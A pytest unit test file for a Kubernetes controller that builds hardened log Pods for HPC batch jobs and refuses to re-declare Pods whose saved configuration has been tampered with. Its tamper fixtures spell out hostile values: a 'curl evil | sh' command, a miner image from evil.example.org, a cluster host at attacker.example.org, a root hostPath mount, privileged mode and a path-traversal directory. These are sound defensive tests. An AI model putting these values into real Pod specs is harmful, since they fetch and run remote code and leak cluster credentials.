"""The log Pod "<name>-logs": hardened, the Secret only as a read-only volume, deterministic per
attempt; behind jump hosts (one --jump per hop, each jump Secret that is not the cluster's as a
read-only volume of its own) and under a workDir; when it is due; how an observed Pod is
re-declared between attempts, but never one edited by hand; and the answer's Pod."""

from __future__ import annotations

import json
from collections.abc import Collection, Iterator
from pathlib import Path
from typing import Any

import pytest

from hooks.core.decide import answer
from hooks.core.status.record import Status
from hooks.core.values.job import ClusterRef, JobRequest, Spec
from hooks.core.values.phases import Phase
from hooks.core.values.reasons import Reason
from hooks.core.wire.child_pod import LAST_APPLIED, SECRET_MOUNT
from hooks.core.wire.log_pod import carried_over, log_pod, pod_due, pod_name
from tests.unit.builders import LOGIN, request
from tests.unit.conftest import HOSTS, IMAGE, UID, call
from tests.unit.conftest import job as build_job

REQUESTS = Path(__file__).resolve().parents[3] / "examples" / "requests"


def job(attempt: int = 1, **spec: Any) -> JobRequest:
    """A SLURM attempt on port 2222, so that the port's argument is visible."""
    spec.setdefault("cluster", {"host": HOSTS["slurm"], "port": 2222,
                                "secretRef": {"name": "hpc-login"}})
    return build_job("slurm", attempt, **spec)


JUMP = [{"host": "bastion.example.org"},
        {"host": "10.1.2.3", "port": 2200, "secretRef": {"name": "inner-hop"},
         "insecureSkipHostKeyCheck": True},
        {"host": "third.example.org", "secretRef": {"name": "inner-hop"}}]


def routed_job(attempt: int = 1, /, **cluster: Any) -> JobRequest:
    """A SLURM attempt whose spec.cluster has ``cluster``'s fields too."""
    return build_job("slurm", attempt, cluster={
        "host": "login.hpc.example.org", "secretRef": {"name": "hpc-login"}, **cluster})


def pod(**kw: Any) -> dict[str, Any]:
    return log_pod(kw.pop("job", None) or job(), job_ids=kw.pop("job_ids", ("4242",)),
                   image=kw.pop("image", IMAGE))


def container(p: dict[str, Any]) -> dict[str, Any]:
    only, = p["spec"]["containers"]
    return only  # type: ignore[no-any-return]


def test_name() -> None:
    assert pod_name("hello") == "hello-logs"
    assert pod()["metadata"]["name"] == "hello-logs"
    assert (pod()["apiVersion"], pod()["kind"]) == ("v1", "Pod")


def test_secret_is_a_read_only_volume_and_never_in_env() -> None:
    p = pod()
    volume, = p["spec"]["volumes"]
    assert volume["secret"]["secretName"] == "hpc-login"
    mount, = container(p)["volumeMounts"]
    assert (mount["name"], mount["readOnly"]) == (volume["name"], True)
    assert "envFrom" not in container(p)
    for env in container(p).get("env", []):
        assert "valueFrom" not in env
    assert "hpc-login" not in json.dumps(container(p))


def test_security_context() -> None:
    p = pod()
    assert p["spec"]["securityContext"]["runAsNonRoot"] is True
    assert p["spec"]["securityContext"]["runAsUser"] != 0
    assert p["spec"]["automountServiceAccountToken"] is False
    security = container(p)["securityContext"]
    assert security["readOnlyRootFilesystem"] is True
    assert security["allowPrivilegeEscalation"] is False
    assert security["capabilities"]["drop"] == ["ALL"]
    assert "privileged" not in security
    assert "hostNetwork" not in p["spec"] and "hostPath" not in json.dumps(p)


def test_restart_policy_and_small_requests() -> None:
    p = pod()
    assert p["spec"]["restartPolicy"] == "OnFailure"
    resources = container(p)["resources"]
    assert resources["requests"] and resources["limits"]


@pytest.mark.parametrize("image", ["hpcbridge:0.1.0", IMAGE, "ghcr.io/x/y@sha256:" + "a" * 64])
def test_image_comes_from_the_argument(image: str) -> None:
    assert container(pod(image=image))["image"] == image


def test_deterministic() -> None:
    assert json.dumps(pod()) == json.dumps(pod())


def test_args_name_the_attempt_and_every_task() -> None:
    args = container(pod(job_ids=("7_0", "7_1", "7_2")))["args"]
    for expected in ("--backend=slurm", "--host=login.hpc.example.org", "--port=2222",
                     f"--key={UID}-1", f"--remote-dir=.hpcbridge/research/hello/{UID}/attempt-1",
                     "--job-id=7_0", "--job-id=7_1", "--job-id=7_2"):
        assert expected in args
    assert "--follow" not in args
    assert "--insecure-skip-host-key-check" not in args


def test_args_follow_and_insecure() -> None:
    followed = job(logs={"follow": True},
                  cluster={"host": "h", "secretRef": {"name": "s"},
                           "insecureSkipHostKeyCheck": True})
    args = container(pod(job=followed))["args"]
    assert "--follow" in args and "--insecure-skip-host-key-check" in args


def test_a_new_attempt_changes_the_pod() -> None:
    first, second = pod(job=job(1)), pod(job=job(2), job_ids=("4300",))
    assert first != second
    assert second["metadata"]["labels"]["hpcbridge.io/attempt"] == "2"


def test_the_pod_does_not_depend_on_anything_but_the_attempt() -> None:
    same_attempt_other_script = job(script="#!/bin/sh\necho other\n")
    assert pod(job=same_attempt_other_script) == pod()


# --- along a route -------------------------------------------------------------------------------


def test_one_jump_argument_per_hop_in_order() -> None:
    args = container(pod(job=routed_job(jump=JUMP)))["args"]
    assert [a for a in args if a.startswith("--jump=")] == [
        f"--jump=bastion.example.org,22,{SECRET_MOUNT},verify",
        f"--jump=10.1.2.3,2200,{SECRET_MOUNT}-jump-1,insecure",
        f"--jump=third.example.org,22,{SECRET_MOUNT}-jump-2,verify",
    ]
    assert f"--secret-dir={SECRET_MOUNT}" in args


def test_each_jump_secret_of_its_own_is_a_read_only_volume() -> None:
    p = pod(job=routed_job(jump=JUMP))
    volumes = {v["name"]: v["secret"] for v in p["spec"]["volumes"]}
    assert volumes == {
        "cluster-secret": {"secretName": "hpc-login", "defaultMode": 0o440},
        "jump-1-secret": {"secretName": "inner-hop", "defaultMode": 0o440},
        "jump-2-secret": {"secretName": "inner-hop", "defaultMode": 0o440},
    }
    mounts = container(p)["volumeMounts"]
    assert {(m["name"], m["mountPath"]) for m in mounts} == {
        ("cluster-secret", SECRET_MOUNT),
        ("jump-1-secret", f"{SECRET_MOUNT}-jump-1"),
        ("jump-2-secret", f"{SECRET_MOUNT}-jump-2"),
    }
    assert all(m["readOnly"] is True for m in mounts)
    assert "inner-hop" not in json.dumps(container(p))


def test_without_jump_hosts_the_pod_is_as_before() -> None:
    p = pod(job=routed_job())
    assert not [a for a in container(p)["args"] if a.startswith("--jump")]
    assert [v["name"] for v in p["spec"]["volumes"]] == ["cluster-secret"]


@pytest.mark.parametrize(
    ("work_dir", "remote_dir"),
    [
        pytest.param(None, f".hpcbridge/research/hello/{UID}/attempt-1", id="default"),
        pytest.param("~/jobs", f"jobs/research/hello/{UID}/attempt-1", id="home-relative"),
        pytest.param("/scratch/alice", f"/scratch/alice/research/hello/{UID}/attempt-1",
                     id="absolute"),
    ],
)
def test_the_remote_dir_is_the_attempts(work_dir: str | None, remote_dir: str) -> None:
    fields = {} if work_dir is None else {"workDir": work_dir}
    assert f"--remote-dir={remote_dir}" in container(pod(job=routed_job(**fields)))["args"]


# --- when it is due ------------------------------------------------------------------------------


def status(phase: Phase, job_ids: tuple[str, ...] = ("4242",)) -> Status:
    return Status(phase=phase, job_ids=job_ids, attempt=1)


@pytest.mark.parametrize(
    ("status", "follow", "due"),
    [
        pytest.param(status(Phase.PENDING), False, False, id="pending"),
        pytest.param(status(Phase.PENDING), True, False, id="pending-follow"),
        pytest.param(status(Phase.RUNNING), False, False, id="running"),
        pytest.param(status(Phase.RUNNING), True, True, id="running-follow"),
        pytest.param(status(Phase.SUCCEEDED), False, True, id="succeeded"),
        pytest.param(status(Phase.SUCCEEDED), True, True, id="succeeded-follow"),
        pytest.param(status(Phase.FAILED), False, True, id="failed"),
        pytest.param(status(Phase.CANCELLED), False, True, id="cancelled"),
        pytest.param(status(Phase.FAILED, ()), False, False, id="nothing-submitted"),
        pytest.param(Status(phase=Phase.FAILED, reason=Reason.INVALID_SPEC), False, False,
                     id="invalid-spec"),
        pytest.param(status(Phase.UNKNOWN), True, False, id="unknown"),
    ],
)
def test_pod_due(status: Status, follow: bool, due: bool) -> None:
    assert pod_due(status, follow=follow) is due


def as_observed(applied: dict[str, Any]) -> dict[str, Any]:
    """The Pod ``applied`` as the API server shows it: the applied configuration in the
    annotation, and the server's own fields around it."""
    return {**applied, "metadata": {
        **applied["metadata"], "uid": "pod-uid", "namespace": "research",
        "annotations": {LAST_APPLIED: json.dumps(applied)}}, "status": {"phase": "Succeeded"}}


def observed_pod(**changes: Any) -> dict[str, Any]:
    """The log Pod of attempt 1 as the API server shows it."""
    return as_observed(pod(job=job(**changes), job_ids=("4242_0", "4242_1")))


class Anywhere:
    """Every cluster: these tests are about the Pod's own form (the cluster check is
    ``test_a_pod_for_a_cluster_of_no_attempt_is_not_carried_over``)."""

    def __contains__(self, cluster: object) -> bool:
        return True

    def __iter__(self) -> Iterator[ClusterRef]:
        return iter(())

    def __len__(self) -> int:
        return 0


def carry(observed: Any, image: str = IMAGE,
          clusters: Collection[ClusterRef] = Anywhere()) -> dict[str, Any] | None:
    return carried_over(observed, namespace="research", name="hello", uid=UID, image=image,
                        clusters=clusters)


def test_a_pod_for_a_cluster_of_no_attempt_is_not_carried_over() -> None:
    """The Pod logs in with what it mounts: one naming a host no attempt of the BatchJob used
    (an edited annotation, say) would send the Secret's login elsewhere."""
    ours = ClusterRef(HOSTS["slurm"], 2222, "hpc-login", False)
    elsewhere = {"host": "attacker.example.org", "port": 22, "secretRef": {"name": "hpc-login"},
                 "insecureSkipHostKeyCheck": True}
    assert carry(observed_pod(cluster=elsewhere), clusters={ours}) is None
    assert carry(observed_pod(), clusters={ours}) is not None


def test_carried_over_redeclares_the_last_applied_configuration() -> None:
    observed = observed_pod()
    kept = carry(observed)
    assert kept == json.loads(observed["metadata"]["annotations"][LAST_APPLIED])
    assert kept is not None
    assert "status" not in kept and "uid" not in kept["metadata"]
    assert kept["spec"]["volumes"][0]["secret"]["secretName"] == "hpc-login"


def test_the_label_metacontroller_adds_does_not_stop_the_carry_over() -> None:
    observed = edited(lambda a: a["metadata"]["labels"].update({"controller-uid": UID}))
    kept = carry(observed)
    assert kept is not None and "controller-uid" not in kept["metadata"]["labels"]
    other = edited(lambda a: a["metadata"]["labels"].update({"app": "other"}))
    assert carry(other) is None


def test_a_followed_pod_with_its_flags_is_carried_over() -> None:
    observed = observed_pod(cluster={"host": "h", "port": 22, "secretRef": {"name": "s"},
                                     "insecureSkipHostKeyCheck": True},
                            logs={"follow": True})
    kept = carry(observed)
    assert kept == json.loads(observed["metadata"]["annotations"][LAST_APPLIED])
    assert {"--follow", "--insecure-skip-host-key-check"} <= set(container(kept)["args"])


def with_annotation(value: object) -> dict[str, Any]:
    observed = observed_pod()
    observed["metadata"]["annotations"] = {LAST_APPLIED: value}
    return observed


def edited(change: Any) -> dict[str, Any]:
    """The observed Pod with its last-applied configuration edited by ``change``."""
    observed = observed_pod()
    applied = json.loads(observed["metadata"]["annotations"][LAST_APPLIED])
    change(applied)
    observed["metadata"]["annotations"][LAST_APPLIED] = json.dumps(applied)
    return observed


def spec_of(applied: dict[str, Any]) -> dict[str, Any]:
    return applied["spec"]  # type: ignore[no-any-return]


@pytest.mark.parametrize(
    "observed",
    [
        pytest.param(None, id="no-pod"),
        pytest.param({"metadata": {"name": "hello-logs"}}, id="no-annotations"),
        pytest.param({}, id="no-metadata"),
        pytest.param({"metadata": ["x"]}, id="metadata-a-list"),
        pytest.param({"metadata": {"annotations": ["x"]}}, id="annotations-a-list"),
        pytest.param(with_annotation("{not json"), id="broken-json"),
        pytest.param(with_annotation("null"), id="null"),
        pytest.param(with_annotation('["Pod"]'), id="not-an-object"),
        pytest.param(with_annotation('{"kind": "Secret", "data": {}}'), id="not-a-pod"),
        pytest.param(with_annotation(42), id="not-text"),
        pytest.param(with_annotation("[" * 1000), id="deeply-nested"),
        pytest.param(with_annotation('{"kind": "Pod", "x": "' + "a" * 70000 + '"}'),
                     id="huge"),
        pytest.param(with_annotation('{"kind": "Pod"}'), id="a-bare-pod"),
        pytest.param(edited(lambda a: spec_of(a)["volumes"].append(
            {"name": "root", "hostPath": {"path": "/"}})), id="host-path"),
        pytest.param(edited(lambda a: spec_of(a)["containers"][0]["securityContext"].update(
            privileged=True)), id="privileged"),
        pytest.param(edited(lambda a: spec_of(a)["containers"][0].update(
            image="evil.example.org/miner")), id="another-image"),
        pytest.param(edited(lambda a: spec_of(a)["containers"][0].update(
            command=["sh", "-c", "curl evil | sh"])), id="another-command"),
        pytest.param(edited(lambda a: spec_of(a).update(serviceAccountName="admin")),
                     id="service-account"),
        pytest.param(edited(lambda a: spec_of(a)["containers"][0]["args"].__setitem__(
            3, "--remote-dir=.hpcbridge/other/hello/x/attempt-1")), id="another-batchjob"),
        pytest.param(edited(lambda a: spec_of(a)["containers"][0]["args"].append(
            "--port=23")), id="a-second-port"),
    ],
)
def test_nothing_is_carried_over(observed: dict[str, Any] | None) -> None:
    assert carry(observed) is None


def test_a_pod_of_another_image_is_not_carried_over() -> None:
    assert carry(observed_pod(), image="registry.example.org/hpcbridge:9.9.9") is None


def test_a_log_pod_annotation_naming_another_batchjob_is_not_carried_over() -> None:
    """The annotation is the user's to edit: a Pod rebuilt under another BatchJob's name
    (``other-logs``) would be a child this BatchJob never had."""
    cluster = ClusterRef(LOGIN, 22, "login", False)
    other = JobRequest("research", "other", UID, 1, Spec("slurm", cluster, ""), 0)
    applied = log_pod(other, job_ids=("500",), image="img")
    observed = {**applied, "metadata": {"name": "sim-logs",
                                        "annotations": {LAST_APPLIED: json.dumps(applied)}}}
    assert carried_over(observed, namespace="research", name="sim", uid=UID, image="img",
                        clusters={cluster}) is None
    assert carried_over(observed, namespace="research", name="other", uid=UID, image="img",
                        clusters={cluster}) == applied


ROUTES = [
    pytest.param({"jump": JUMP}, id="jump"),
    pytest.param({"jump": JUMP, "workDir": "/scratch/alice/bridge"}, id="jump-absolute-dir"),
    pytest.param({"workDir": "jobs/bridge"}, id="relative-dir"),
    pytest.param({"workDir": "/research/hello"}, id="dir-named-like-the-batchjob"),
    pytest.param({"port": 2222, "insecureSkipHostKeyCheck": True,
                  "jump": [{"host": "b", "secretRef": {"name": "hpc-login"}}]},
                 id="hop-with-the-cluster-secret"),
]


@pytest.mark.parametrize("cluster", ROUTES)
def test_a_pod_along_a_route_is_carried_over(cluster: dict[str, Any]) -> None:
    applied = pod(job=routed_job(**cluster), job_ids=("4242_0", "4242_1"))
    assert carry(as_observed(applied)) == applied


def edited_route(change: Any) -> dict[str, Any]:
    """The Pod of an attempt along a route, observed with its configuration edited by
    ``change``."""
    applied = pod(job=routed_job(jump=JUMP, workDir="/scratch/alice"))
    change(applied)
    return as_observed(applied)


def args_of(applied: dict[str, Any]) -> list[str]:
    return container(applied)["args"]  # type: ignore[no-any-return]


def with_arg(prefix: str, value: str) -> dict[str, Any]:
    """The observed Pod with the value of its argument that starts with ``prefix`` (the
    option and what tells it from others of its name) replaced."""
    def change(applied: dict[str, Any]) -> None:
        found = args_of(applied)
        at = next(i for i, a in enumerate(found) if a.startswith(prefix))
        found[at] = f"{prefix.partition('=')[0]}={value}"
    return edited_route(change)


HOP = "--jump=10.1.2.3"
REMOTE_DIR = "--remote-dir="


@pytest.mark.parametrize(
    "tampered",
    [
        pytest.param(edited_route(lambda a: a["spec"]["volumes"].append(
            {"name": "extra", "secret": {"secretName": "admin-token"}})), id="extra-volume"),
        pytest.param(edited_route(lambda a: container(a)["volumeMounts"].append(
            {"name": "jump-1-secret", "mountPath": "/etc/ssh", "readOnly": True})),
            id="extra-mount"),
        pytest.param(with_arg(HOP, "10.1.2.3,2200,/etc,insecure"),
                     id="jump-dir-not-mounted"),
        pytest.param(with_arg(HOP, f"10.1.2.3,2200,{SECRET_MOUNT}-jump-1,insecure,x"),
                     id="jump-five-fields"),
        pytest.param(with_arg(HOP, f"10.1.2.3,port,{SECRET_MOUNT}-jump-1,insecure"),
                     id="jump-port-text"),
        pytest.param(with_arg(HOP, f"10.1.2.3,2200,{SECRET_MOUNT},insecure"),
                     id="jump-moved-to-the-cluster-secret"),
        pytest.param(edited_route(lambda a: a["spec"]["volumes"][1]["secret"].update(
            defaultMode=0o444)), id="jump-volume-readable-by-all"),
        pytest.param(edited_route(lambda a: container(a)["volumeMounts"][1].update(readOnly=False)),
                     id="jump-mount-writable"),
        pytest.param(with_arg(REMOTE_DIR, f"/scratch/../etc/research/hello/{UID}/attempt-1"),
                     id="work-dir-escaping"),
        pytest.param(with_arg(REMOTE_DIR, f"/scratch/alice/research/other/{UID}/attempt-1"),
                     id="another-batchjob-under-the-work-dir"),
        pytest.param(with_arg(REMOTE_DIR, f"/research/hello/{UID}/attempt-1"),
                     id="work-dir-root"),
    ],
)
def test_an_edited_pod_is_not_carried_over(tampered: dict[str, Any]) -> None:
    assert carry(tampered) is None


# --- the answer's Pod ----------------------------------------------------------------------------


def test_the_answers_pod_follows_the_attempts_route_not_the_edited_spec() -> None:
    body = request({"cluster": {"host": "new-login", "secretRef": {"name": "login"}}})
    parsed = call(body)
    stored = build_job("slurm", 2, cluster={
        "host": "login.hpc.example.org", "secretRef": {"name": "login"},
        "jump": [{"host": "bastion", "secretRef": {"name": "hop"}}],
        "workDir": "/scratch/alice"}).spec.cluster
    status = Status(phase=Phase.SUCCEEDED, backend="slurm", job_ids=("4242",), attempt=2,
                    attempt_generation=1, cluster=stored)
    (found,) = answer.build(parsed, status).body["children"]
    found_args = container(found)["args"]
    assert "--host=login.hpc.example.org" in found_args
    assert f"--jump=bastion,22,{SECRET_MOUNT}-jump-0,verify" in found_args
    assert f"--remote-dir=/scratch/alice/research/sim/{UID}/attempt-2" in found_args
    assert {v["secret"]["secretName"] for v in found["spec"]["volumes"]} == {"login", "hop"}
